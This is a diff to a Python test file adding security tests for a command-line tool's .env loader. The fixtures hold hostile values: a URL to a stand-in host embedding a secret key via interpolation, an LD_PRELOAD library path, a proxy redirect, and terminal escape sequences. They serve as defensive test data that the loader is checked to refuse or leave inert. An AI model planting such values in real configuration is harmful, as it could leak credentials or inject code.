@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import logging
+import os
 from pathlib import Path
 
 import pytest
@@ -12,8 +13,9 @@ from mesh.chain.dialect import Call
 from mesh.chain.session import RpcRefused
 from mesh.chain.substrate import Preview
 from mesh.cli.acting import Step, _Shown, one_line
-from mesh.cli.common import run_app
+from mesh.cli.common import load_dotenv, run_app
 from mesh.cli.tables import facts, table
+from mesh.errors import ConfigError
 from mesh.log import TextFormatter
 
 ESCAPES = "\x1b[2J\x1b[1;1H\x9b31m\u202etxet\r\n\x07"
@@ -66,3 +68,41 @@ def test_tables_errors_and_log_lines_do_not_steer_a_terminal(
     line = TextFormatter("%(levelname)s %(message)s").format(record)
     assert_harmless(line)
     assert len(line.splitlines()) == 1
+
+
+def test_a_dotenv_that_somebody_left_in_a_folder_sets_no_more_than_it_may(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Such as one in a cloned repository: secrets of the environment must not get into a URL."""
+    monkeypatch.setattr(os, "environ", {"MESH_COLDKEY": "0xsecret", "HOME": str(tmp_path)})
+    file = tmp_path / ".env"
+    file.write_text(
+        "MESH_CHAIN_URL=ws://evil.example/${MESH_COLDKEY}\nXDG_DATA_HOME=/tmp/evil\nMESH_PARENT_PID=1\n"
+        "LD_PRELOAD=/tmp/evil.so\nhttps_proxy=evil.example\nMESH_COLDKEY=\n"
+    )
+    file.chmod(0o600)
+    load_dotenv(file)
+    assert os.environ == {
+        "MESH_COLDKEY": "0xsecret",
+        "HOME": str(tmp_path),
+        "MESH_CHAIN_URL": "ws://evil.example/${MESH_COLDKEY}",
+    }
+
+
+def test_a_dotenv_that_others_may_have_written_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(os, "environ", {})
+    file = tmp_path / ".env"
+    file.write_text("MESH_CHAIN_URL=ws://evil.example\n")
+    file.chmod(0o666)
+    with pytest.raises(ConfigError, match="written by others"):
+        load_dotenv(file)
+    file.chmod(0o644)
+    if not os.geteuid():
+        os.chown(file, 12345, -1)
+    monkeypatch.setattr(os, "geteuid", lambda: 54321)
+    with pytest.raises(ConfigError, match="another user's"):
+        load_dotenv(file)
+    file.write_bytes(b"A=b\n" * 20_000)
+    with pytest.raises(ConfigError, match="larger"):
+        load_dotenv(file)
+    assert not os.environ
